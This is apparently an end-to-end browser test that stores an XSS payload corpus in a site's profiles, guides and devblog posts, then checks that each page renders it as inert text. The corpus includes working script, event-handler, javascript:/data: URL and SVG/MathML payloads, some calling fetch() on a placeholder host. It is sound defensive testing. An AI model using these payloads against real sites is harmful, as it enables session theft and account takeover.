/**
 * Issue 22, stored text is shown safely everywhere, in a real browser. Xena, a member, stores an
 * XSS corpus (script tags, event handlers, `javascript:`, `data:` and `vbscript:` URLs, SVG and
 * MathML tricks, CSS expressions and imports, frames, forms, meta refresh, base…) through the API
 * in everything she may write: her "about me", a public guide's markdown and description; Ada, an
 * admin, in a devblog post's title and body. The names (stuff, folder, nickname, in-game name) take
 * no markup: the API refuses the corpus there (a 400 with the field's message).
 *
 * Desktop (1366×900), in French: the profile, her public stuffs, the guide's page, the stuff search
 * and the guides list, the member list, her library and folders (signed in), the settings page, the
 * devblog. Phone (390×844): the profile, the guide and the devblog again. On every page the test
 * watches for a dialog (alert, confirm, prompt), the console marker the payloads print, and any
 * request to the marker host or a `javascript:` URL; and it reads the DOM: no script, no `on…`
 * attribute, no frame, object or embed, no link to a `javascript:`/`data:` URL anywhere in the page.
 */
import { mkdirSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFailed } from 'vitest';
import type { Stuff } from '#contract/stuff';
import { buildPath, type RouteName, type RouteParams } from '#contract/pages';
import { dismissGamificationModals, settleGamification } from './support/gamification.ts';
import { createMember, logIn, type E2eMember } from './support/members.ts';
import { hasChromium, RESULTS, SKIP_REASON, startSite, type Site } from './support/site.ts';

if (!hasChromium) console.warn(`tests/e2e/issue22-xss.test.ts skipped: ${SKIP_REASON}`);

/** The host every payload that could fetch points at, and the marker they print or send. */
const HOST = 'xss-marker.invalid';
const MARK = 'XSS-RAN';
const run = `console.log('${MARK}');alert('${MARK}');fetch('http://${HOST}/ran')`;

/** The corpus: each line an attack on a renderer (raw HTML in markdown, markdown links, attributes, CSS). */
const CORPUS = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=http://${HOST}/x.js></SCRIPT>`,
  `<img src=x onerror="${run}">`,
  `<img src="http://${HOST}/pixel.png">`,
  `![image](http://${HOST}/md.png)`,
  `<svg onload="${run}"><circle r="5"/></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x="0" y="10">svg</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<details open ontoggle="${run}">d</details>`,
  `<body onload="${run}">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="http://${HOST}/object"></object><embed src="http://${HOST}/embed">`,
  `<a href="javascript:${run}">lien javascript</a>`,
  `<a href="JaVaScRiPt&colon;alert('${MARK}')">lien encodé</a>`,
  `<a href="&#106;avascript:alert('${MARK}')">lien entités</a>`,
  `[lien markdown](javascript:alert('${MARK}'))`,
  `[lien data](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTLVJBTicpPC9zY3JpcHQ+)`,
  `[lien vbscript](vbscript:msgbox("${MARK}"))`,
  `<a href="data:text/html,<script>${run}</script>">lien data brut</a>`,
  `<div style="background:url('javascript:${run}')">style url</div>`,
  `<div style="width: expression(alert('${MARK}'))">expression</div>`,
  `<style>@import 'http://${HOST}/import.css'; body { background: url(http://${HOST}/bg.png) }</style>`,
  `<link rel="stylesheet" href="http://${HOST}/link.css">`,
  `<form action="javascript:${run}"><button formaction="javascript:${run}">envoyer</button></form>`,
  `<input autofocus onfocus="${run}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert('${MARK}')">`,
  `<base href="http://${HOST}/">`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=alert('${MARK}')>`,
  `<video><source onerror="${run}"></video><audio src=x onerror="${run}">`,
  `<marquee onstart="${run}">m</marquee>`,
  `<template><script>${run}</script></template><noscript><img src=x onerror="${run}"></noscript>`,
  '`<script>inside code</script>`',
];

/** A short selection for the fields of few characters (about me: 1000, description: 255). */
const SHORT = [CORPUS[0], CORPUS[2], CORPUS[5], CORPUS[14], CORPUS[17]].join('\n');

function draft(name: string): Stuff {
  return { id: 0, mode: 'local', name, classId: 8, level: 150, gender: 0, points: {}, scrolls: {}, items: { ch: 2411, ca: 2414 }, rolls: {}, forgemagie: {}, boosts: [] };
}

describe.skipIf(!hasChromium)(hasChromium ? 'issue 22 XSS corpus in Chromium' : `issue 22 XSS corpus — skipped: ${SKIP_REASON}`, () => {
  let site: Site;
  let page: Page;
  let xena: E2eMember;
  let ada: E2eMember;
  let guide = { id: 0, slug: '' };
  const ran: string[] = [];

  async function api(token: string | undefined, method: string, path: string, body?: unknown): Promise<{ status: number; json: any }> {
    const response = await fetch(`${site.serverUrl}${path}`, {
      method,
      headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), 'content-type': 'application/json', 'x-lang': 'fr' },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    return { status: response.status, json: await response.json() };
  }
  const login = async (member: E2eMember) => {
    const answer = await api(undefined, 'POST', '/api/auth/login', { login: member.name, password: member.password });
    expect(answer.status, JSON.stringify(answer.json)).toBe(200);
    return answer.json as { token: string; user: { id: number; slug: string } };
  };
  const url = (name: RouteName, params?: RouteParams) => `${site.baseUrl}${buildPath(name, 'fr', params)}`;

  /** Opens a page, waits for `text` (the stored text's visible part) and checks that nothing ran nor could run. */
  async function visit(label: string, address: string, text: string): Promise<void> {
    await page.goto(address);
    await check(label, text);
  }

  /** Waits for `text` on the page shown and checks that nothing ran nor could run. */
  async function check(label: string, text: string): Promise<void> {
    await page.getByText(text, { exact: false }).first().waitFor();
    await page.waitForLoadState('networkidle');
    // Give a timer-based payload its chance (a payload that waits for focus or toggling too).
    await page.mouse.move(10, 10);
    await page.waitForTimeout(300);
    expect(await dangerousMarkup(), `${label}: dangerous markup in the page`).toEqual([]);
    expect(ran, `${label}: something ran`).toEqual([]);
    expect(site.pageErrors.filter((error) => !error.startsWith('CSP:')), label).toEqual([]);
  }

  /** Scripts, frames, `on…` attributes, `javascript:`/`data:` URLs in the page (and markup of no text inside stored text). */
  function dangerousMarkup(): Promise<string[]> {
    return page.evaluate(() => {
      const found: string[] = [];
      for (const element of Array.from(document.body.querySelectorAll('*'))) {
        const tag = element.tagName.toLowerCase();
        if (['script', 'iframe', 'object', 'embed', 'frame', 'base'].includes(tag)) found.push(`<${tag}>`);
        // Markup of the app's own (a settings form) is fine; inside stored text, no such element.
        if (['meta', 'link', 'style', 'form', 'input', 'button', 'svg', 'math', 'img', 'video', 'audio', 'details'].includes(tag) && element.closest('.stuff-guide, .devblog-post__body')) found.push(`<${tag}> in stored text`);
        for (const attribute of Array.from(element.attributes)) {
          if (/^on/i.test(attribute.name)) found.push(`<${tag} ${attribute.name}>`);
          if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc'].includes(attribute.name.toLowerCase()) && /^\s*(javascript|data|vbscript):/i.test(attribute.value)) {
            found.push(`<${tag} ${attribute.name}="${attribute.value.slice(0, 40)}">`);
          }
          if (attribute.name === 'style' && /expression|javascript/i.test(attribute.value)) found.push(`<${tag} style="${attribute.value.slice(0, 40)}">`);
        }
      }
      return found;
    });
  }

  beforeAll(async () => {
    site = await startSite({ locale: 'fr-FR' });
    page = site.page;
    page.on('dialog', (dialog) => {
      ran.push(`dialog ${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('console', (message) => {
      if (message.text().includes(MARK)) ran.push(`console: ${message.text()}`);
    });
    page.on('request', (request) => {
      if (request.url().includes(HOST) || /^(javascript|vbscript):/i.test(request.url())) ran.push(`request: ${request.url()}`);
    });
    page.on('framenavigated', (frame) => {
      if (/^(javascript|data|vbscript):/i.test(frame.url())) ran.push(`navigation: ${frame.url()}`);
    });
    await dismissGamificationModals(page);
    xena = createMember(site, { prefix: 'Xena' });
    ada = createMember(site, { prefix: 'Ada', role: 'admin' });
  }, 120_000);

  afterAll(async () => {
    await site?.close();
  });

  it('stores the corpus through the API, then shows it on every page as inert text (desktop, then phone)', async () => {
    onTestFailed(async () => {
      mkdirSync(RESULTS, { recursive: true });
      await page.screenshot({ path: `${RESULTS}/issue22-xss-failure.png`, fullPage: true }).catch(() => undefined);
    });
    const author = await login(xena);
    const editor = await login(ada);

    // What takes free text stores the corpus as it is.
    const about = await api(author.token, 'PUT', '/api/users/profil', { about: `Corpus-XSS-about\n${SHORT}`.slice(0, 1000) });
    expect(about.status, JSON.stringify(about.json)).toBe(200);
    const saved = await api(author.token, 'POST', '/api/stuffs/retro/private/save', { ...draft('Guide piégé'), visible: true });
    expect(saved.status, JSON.stringify(saved.json)).toBe(200);
    guide = saved.json;
    const markdown = `Corpus-XSS-guide\n\n${CORPUS.join('\n\n')}`;
    const updated = await api(author.token, 'PUT', `/api/stuffs/retro/private/${guide.id}`, { version: saved.json.version, markdown, description: `Corpus-XSS-description ${SHORT}`.slice(0, 255) });
    expect(updated.status, JSON.stringify(updated.json)).toBe(200);
    expect(updated.json.markdown).toBe(markdown);
    const post = await api(editor.token, 'POST', '/api/devblog', {
      title: { fr: `Corpus-XSS-devblog <img src=x onerror=alert('${MARK}')><script>alert('${MARK}')</script>` },
      body: { fr: CORPUS.join('\n\n') },
      published: true,
    });
    expect(post.status, JSON.stringify(post.json)).toBe(200);

    // The names take no markup: each is refused with its field's message, and nothing is stored.
    for (const [path, method, body, code] of [
      [`/api/stuffs/retro/private/${guide.id}`, 'PUT', { version: updated.json.version, name: '<img src=x onerror=alert(1)>' }, 'stuffNameFormat'],
      ['/api/folders', 'POST', { name: '<svg onload=alert(1)>' }, 'folderNameFormat'],
      ['/api/users/profil', 'PUT', { ingame_name: '<script>alert(1)</script>' }, 'ingameNameInvalid'],
      ['/api/users/profil', 'PUT', { favourite_map: 'javascript:alert(1)' }, 'favouriteMapInvalid'],
    ] as const) {
      const refused = await api(author.token, method, path, body);
      expect(refused.status, `${path}: ${JSON.stringify(refused.json)}`).toBe(400);
      expect(refused.json.code, path).toBe(code);
    }

    // Desktop, as a visitor, then as Xena. The home page opens the news modal on the new post.
    await page.setViewportSize({ width: 1366, height: 900 });
    await page.goto(url('site.home'));
    const news = page.getByTestId('news-modal');
    await check('news modal', 'Corpus-XSS-devblog');
    await news.getByTestId('news-modal-read').click();
    await news.waitFor({ state: 'detached' });
    const slug = xena.name.toLowerCase();
    await visit('public profile', url('user.public-profile', { userSlug: slug }), 'Corpus-XSS-about');
    await visit('public stuffs', url('user.public-stuffs', { userSlug: slug }), 'Guide piégé');
    await visit('guide page', url('stuff.public', { stuffId: guide.slug }), 'Corpus-XSS-guide');
    // The corpus is there, as text (the code span shows its markup literally).
    expect(await page.getByTestId('stuff-guide-body').innerText()).toContain('<script>inside code</script>');
    await visit('stuff search', `${url('stuff.search')}?text=guide`, 'Guide piégé');
    await visit('guides list', url('stuff.guides'), 'Guide piégé');
    await visit('member list', `${url('community.user')}?search=${xena.name}`, xena.name);
    await visit('devblog', url('site.devblog'), 'Corpus-XSS-devblog');
    await page.goto(url('site.home'));
    await logIn(page, xena);
    await settleGamification(page);
    await visit('library', url('user.stuffs'), 'Guide piégé');
    await visit('settings', url('user.profile'), xena.email);
    expect(await page.getByTestId('settings-about').inputValue()).toContain('<script>');
    await visit('own guide page', url('stuff.public', { stuffId: guide.slug }), 'Corpus-XSS-guide');

    // Phone.
    await page.setViewportSize({ width: 390, height: 844 });
    await visit('public profile (phone)', url('user.public-profile', { userSlug: slug }), 'Corpus-XSS-about');
    await visit('guide page (phone)', url('stuff.public', { stuffId: guide.slug }), 'Corpus-XSS-guide');
    await visit('devblog (phone)', url('site.devblog'), 'Corpus-XSS-devblog');
    mkdirSync(RESULTS, { recursive: true });
    await page.screenshot({ path: `${RESULTS}/issue22-xss-devblog-phone.png` });

    // The watch itself sees what it looks for: a dialog opened, a handler planted in the page.
    await page.evaluate((mark) => {
      const planted = document.createElement('div');
      planted.setAttribute('onclick', 'void 0');
      document.body.append(planted);
      setTimeout(() => alert(mark), 0);
    }, MARK);
    await expect.poll(() => ran.length).toBe(1);
    expect(ran[0]).toBe(`dialog alert: ${MARK}`);
    expect(await dangerousMarkup()).toEqual(['<div onclick>']);
  }, 240_000);
});
